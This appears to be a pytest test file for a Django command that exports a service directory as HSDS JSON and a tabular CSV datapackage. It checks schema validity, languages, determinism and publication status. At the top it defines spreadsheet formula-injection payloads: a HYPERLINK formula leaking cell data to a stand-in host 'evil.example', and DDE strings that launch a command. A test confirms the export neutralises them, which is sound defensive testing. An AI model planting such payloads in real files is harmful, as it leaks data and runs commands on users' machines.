"""``manage.py export_hsds`` (X1): valid HSDS JSON and tabular datapackage, safe to open."""

import csv
import json

import pytest
from django.core.management import CommandError, call_command

from apps.directory.models import Organization, Service
from apps.interchange import export as exporting
from apps.interchange import profile, tabular
from tests.interchange.schemas import errors, validator

HOSTILE = {
    "=": '=HYPERLINK("https://evil.example/?leak="&A1,"Click for help")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


@pytest.fixture
def export(demo, tmp_path):
    out = tmp_path / "export"
    call_command("export_hsds", output=out, language="fr")
    return out


def read_csv(path):
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def load(path):
    return json.loads(path.read_text(encoding="utf-8"))


def typed(value: str, kind: str):
    """A CSV cell as the datapackage declares it (what a Frictionless reader would give)."""
    if value == "":
        return None
    if kind == "number":
        number = float(value)
        return int(number) if number.is_integer() else number
    if kind == "boolean":
        return {"true": True, "false": False}[value]
    if kind == "object":
        return json.loads(value)
    return tabular.unneutralise(value)


def test_json_documents_validate_against_the_official_schemas(export, hsds_schema):
    services = load(export / "hsds/services.json")
    assert len(services) == 11
    for service in services:
        assert not errors(hsds_schema, "compiled/service.json", service), service["name"]
        assert not errors(hsds_schema, "service.json", service, profiled=True)
    for org in load(export / "hsds/organizations.json"):
        assert not errors(hsds_schema, "compiled/organization.json", org)
    for taxonomy in load(export / "hsds/taxonomies.json"):
        assert not errors(hsds_schema, "taxonomy.json", taxonomy, profiled=True)
    terms = load(export / "hsds/taxonomy_terms.json")
    for term in terms:
        assert not errors(hsds_schema, "taxonomy_term.json", term, profiled=True)
    assert len({t["code"] for t in terms}) == len(terms), "HSDS term codes must be unique"
    base = load(export / "hsds/base.json")
    assert base["version"] == "3.0" and base["language"] == "fr"
    assert base["profile"].endswith("/api/hsds/profile/")
    assert services[0]["content_language"] == "fr"


def test_the_profile_travels_with_the_export(export):
    assert sorted(p.name for p in (export / "profile").iterdir()) == profile.patch_names()
    assert load(export / "profile/location.json") == profile.patch("location.json")


def test_csv_files_and_headers_match_the_official_example_package(export, hsds_examples):
    official = {p.name for p in (hsds_examples / "csv").glob("*.csv")}
    ours = {p.name for p in (export / "tabular").glob("*.csv")}
    assert ours == official and len(ours) == 21
    for name in sorted(official):
        expected = read_csv(hsds_examples / "csv" / name)[0]
        header = read_csv(export / "tabular" / name)[0]
        assert header[: len(expected)] == expected, name
        table = next(t for t, spec in tabular.TABLES.items() if spec[0] == name)
        added = [
            n
            for n, spec in profile.extension_fields(tabular.TABLES[table][1]).items()
            if spec["type"] != "array"
        ]
        assert header[len(expected) :] == added, name


def test_table_columns_follow_the_official_schema_files(hsds_schema):
    for table, (path, schema_file, official) in tabular.TABLES.items():
        schema = json.loads((hsds_schema / schema_file).read_text())
        assert schema["path"] == path
        fields = [
            (n, p)
            for n, p in schema["properties"].items()
            if p.get("type") != "array" and "$ref" not in p
        ]
        assert [name for name, _spec in fields] == [name for name, _k, _f in official], table
        for (name, spec), (_name, kind, fmt) in zip(fields, official, strict=True):
            expected = spec.get("datapackage_type") or spec["type"]
            assert kind == expected, (table, name)
            if kind == "string" and spec.get("format"):
                assert fmt == spec["format"], (table, name)


def test_datapackage_describes_every_csv_and_its_columns(export):
    package = load(export / "tabular/datapackage.json")
    assert package["profile"] == "tabular-data-package" and package["language"] == "fr"
    resources = {r["path"]: r for r in package["resources"]}
    assert set(resources) == {p.name for p in (export / "tabular").glob("*.csv")}
    for path, resource in resources.items():
        assert resource["profile"] == "tabular-data-resource" and resource["encoding"] == "utf-8"
        header = read_csv(export / "tabular" / path)[0]
        assert [f["name"] for f in resource["schema"]["fields"]] == header
        assert resource["schema"]["primaryKey"] == "id"
        for key in resource["schema"].get("foreignKeys", []):
            assert key["fields"] in header
            assert key["reference"]["resource"] in {r["name"] for r in package["resources"]}


def test_every_csv_row_validates_against_the_official_tabular_schema(export, hsds_schema):
    package = load(export / "tabular/datapackage.json")
    official = json.loads((hsds_schema / "compiled/tabular.json").read_text())["properties"]
    document, keys = {}, {}
    for resource in package["resources"]:
        required = set(official[resource["name"]]["items"].get("required", []))
        fields = {f["name"]: f for f in resource["schema"]["fields"]}
        header, *rows = read_csv(export / "tabular" / resource["path"])
        # CSV has no null: an empty cell of a required text column is an empty text (HSDS
        # requires texts, e.g. organization.description, that the data may lack).
        text = {n for n in required if fields[n]["type"] == "string" and "format" not in fields[n]}
        records = [
            {
                name: typed(cell, fields[name]["type"]) if cell else ""
                for name, cell in zip(header, row, strict=True)
                if cell or name in text
            }
            for row in rows
        ]
        document[resource["name"]] = records
        ids = [r["id"] for r in records]
        assert len(ids) == len(set(ids)), f"duplicate ids in {resource['path']}"
        keys[resource["name"]] = set(ids)
    assert not errors(hsds_schema, "compiled/tabular.json", document)
    # Links declared in the datapackage hold.
    for resource in package["resources"]:
        for link in resource["schema"].get("foreignKeys", []):
            target = keys[link["reference"]["resource"]]
            for record in document[resource["name"]]:
                value = record.get(link["fields"])
                assert value is None or value in target, (resource["name"], link["fields"])
    assert len(document["service"]) == 11 and len(document["location"]) == 3
    assert len(document["meta_table_description"]) == 21


def test_tables_hold_what_the_json_holds(export):
    services = load(export / "hsds/services.json")
    phones = read_csv(export / "tabular/phones.csv")
    assert len(phones) - 1 == sum(len(s["phones"]) for s in services)
    schedules = read_csv(export / "tabular/schedules.csv")
    assert len(schedules) - 1 == sum(len(s["schedules"]) for s in services)
    header, *rows = read_csv(export / "tabular/services.csv")
    by_id = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    for service in services:
        assert by_id[service["id"]]["name"] == service["name"]


def test_cells_that_a_spreadsheet_would_run_are_neutralised(demo, tmp_path, hsds_schema):
    org = Organization.objects.get(name_en="Example Rights Centre (fictional)")
    org.name_fr = HOSTILE["="]
    org.description_fr = HOSTILE["+"]
    org.save()
    service = Service.objects.get(name_en="Example Legal and Immigration Clinic")
    service.name_fr, service.description_fr = HOSTILE["-"], HOSTILE["@"]
    service.eligibility_description_fr, service.application_process_fr = (
        HOSTILE["\t"],
        HOSTILE["\r"],
    )
    service.save()
    out = tmp_path / "hostile"
    call_command("export_hsds", output=out, language="fr")
    cells = [
        cell
        for path in (out / "tabular").glob("*.csv")
        for row in read_csv(path)[1:]
        for cell in row
    ]
    assert not [
        c
        for c in cells
        if c.startswith(tabular.FORMULA_STARTS)
        and not (tabular.E164.fullmatch(c) or c.lstrip("-").replace(".", "", 1).isdigit())
    ]
    for hostile in HOSTILE.values():
        assert "'" + hostile in cells
    # Numbers that start with "+" or "-" stay numbers: E.164 and negative longitudes.
    assert "+33199001001" in cells
    assert "-122.2712" not in cells  # a confidential place: no coordinates at all
    assert str(-98.6) not in cells
    # The JSON keeps the text as it is; importing the CSV gives it back.
    names = [o["name"] for o in load(out / "hsds/organizations.json")]
    assert HOSTILE["="] in names
    assert all(tabular.unneutralise(tabular.neutralise(v)) == v for v in HOSTILE.values())
    header, *rows = read_csv(out / "tabular/organizations.csv")
    record = {n: typed(c, "string") for n, c in zip(header, rows[1], strict=True) if c}
    assert validator(hsds_schema, "organization.json").is_valid(record)


def test_neutralise_leaves_ordinary_text_and_phone_numbers_alone():
    assert tabular.neutralise("Helpline") == "Helpline"
    assert tabular.neutralise("+33199001001") == "+33199001001"
    assert tabular.neutralise("+33 1 99 00 10 01") == "'+33 1 99 00 10 01"
    assert tabular.neutralise("-") == "'-"
    assert tabular.unneutralise("'quoted") == "'quoted"


def test_all_languages_export_one_folder_each_with_the_same_ids(demo, tmp_path):
    out = tmp_path / "all"
    call_command("export_hsds", output=out, all_languages=True)
    folders = sorted(p.name for p in out.iterdir())
    assert folders == sorted(
        ["profile", "en", "es", "fr", "pt", "ro", "uk", "ru", "ar", "fa", "vi", "zh-hans", "tl"]
    )
    english = load(out / "en/hsds/services.json")
    arabic = load(out / "ar/hsds/services.json")
    assert [s["id"] for s in english] == [s["id"] for s in arabic]
    assert english[0]["name"] != arabic[0]["name"]
    assert [s["phones"] for s in english][0][0]["id"] == [s["phones"] for s in arabic][0][0]["id"]
    tagalog = load(out / "tl/hsds/services.json")
    assert tagalog[0]["field_languages"]["name"] == "en"
    assert (out / "zh-hans/tabular/datapackage.json").exists()


def test_export_is_deterministic_and_replaces_only_its_own_folders(demo, tmp_path):
    out = tmp_path / "again"
    out.mkdir()
    (out / "README.txt").write_text("kept")
    call_command("export_hsds", output=out)
    first = {p: p.read_bytes() for p in out.rglob("*") if p.is_file()}
    (out / "tabular" / "stale.csv").write_text("old")
    call_command("export_hsds", output=out)
    second = {p: p.read_bytes() for p in out.rglob("*") if p.is_file()}
    assert first == second
    assert (out / "README.txt").read_text() == "kept"
    assert not [p for p in out.iterdir() if p.name.startswith(".")]


def test_an_unknown_language_is_refused(demo, tmp_path):
    with pytest.raises(CommandError, match="Unknown content language"):
        call_command("export_hsds", output=tmp_path / "x", language="xx")
    assert not (tmp_path / "x").exists()


def test_export_holds_only_published_services(demo, tmp_path):
    Service.objects.filter(name_en="Example Worldwide Chat Support").update(status="draft")
    call_command("export_hsds", output=tmp_path, language="en")
    services = json.loads((tmp_path / "hsds/services.json").read_text(encoding="utf-8"))
    organizations = json.loads((tmp_path / "hsds/organizations.json").read_text("utf-8"))
    assert len(services) == 10
    assert "Example Global Chat Line (fictional)" not in {o["name"] for o in organizations}


def test_services_are_written_a_batch_at_a_time_without_losing_any(demo, tmp_path, monkeypatch):
    call_command("export_hsds", output=tmp_path / "whole", language="en")
    monkeypatch.setattr(exporting, "BATCH", 2)  # 8 services: four batches
    call_command("export_hsds", output=tmp_path / "batched", language="en")
    for name in ("hsds/services.json", "tabular/services.csv", "tabular/phones.csv"):
        whole = (tmp_path / "whole" / name).read_bytes()
        assert (tmp_path / "batched" / name).read_bytes() == whole, name
    services = json.loads((tmp_path / "batched/hsds/services.json").read_text("utf-8"))
    assert len(services) == Service.objects.published().count()
